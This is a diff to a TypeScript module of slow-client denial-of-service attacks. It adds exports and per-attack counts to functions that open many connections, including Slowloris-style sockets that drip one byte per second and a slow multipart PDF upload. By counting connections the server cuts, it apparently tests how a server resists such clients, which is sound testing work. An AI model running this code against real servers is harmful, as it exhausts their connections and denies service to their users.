@@ -19,10 +19,10 @@ export interface Attackers {
 /** As slow as can be without being silent. */
 const byteMs = 1_000;
 
-type Attack = (target: Target) => net.Socket | http2.ClientHttp2Session;
+export type Attack = (target: Target) => net.Socket | http2.ClientHttp2Session;
 
-const bodyHead = '--b\r\nContent-Disposition: form-data; name="file"; filename="slow.pdf"\r\n\r\n%PDF-1.7\n';
-const form = "multipart/form-data; boundary=b";
+export const bodyHead = '--b\r\nContent-Disposition: form-data; name="file"; filename="slow.pdf"\r\n\r\n%PDF-1.7\n';
+export const form = "multipart/form-data; boundary=b";
 
 /** One connection each. */
 export const attacks: Readonly<Record<string, Attack>> = {
@@ -66,8 +66,8 @@ export const attacks: Readonly<Record<string, Attack>> = {
   },
 };
 
-/** So many of each attack, evenly spread over the first seconds. */
-export function startAttackers(target: Target, each: number): Attackers {
+/** So many of each attack, evenly spread over the first second. */
+export function startAttackers(target: Target, all: readonly (readonly [Attack, number])[]): Attackers {
   const open = new Set<net.Socket | http2.ClientHttp2Session>();
   let isStopped = false;
   let cut = 0;
@@ -82,8 +82,8 @@ export function startAttackers(target: Target, each: number): Attackers {
       setTimeout(begin, byteMs, attack).unref();
     });
   };
-  for (const attack of Object.values(attacks)) {
-    for (let index = 0; index < each; index++) setTimeout(begin, (index / each) * byteMs, attack);
+  for (const [attack, count] of all) {
+    for (let index = 0; index < count; index++) setTimeout(begin, (index / count) * byteMs, attack);
   }
   return {
     get cut() {
@@ -96,15 +96,16 @@ export function startAttackers(target: Target, each: number): Attackers {
   };
 }
 
-function drip(target: Target, beginning: string): net.Socket {
+/** Sends a beginning and then a little every second. */
+export function drip(target: Target, beginning: string, little = "x"): net.Socket {
   const socket = connect(target);
   socket.resume();
   socket.write(beginning);
-  every(socket, () => socket.writable && socket.write("x"));
+  every(socket, () => socket.writable && socket.write(little));
   return socket;
 }
 
-function connect({ url }: Target): net.Socket {
+export function connect({ url }: Target): net.Socket {
   const { hostname, port } = new URL(url);
   return net.connect(Number(port), hostname);
 }
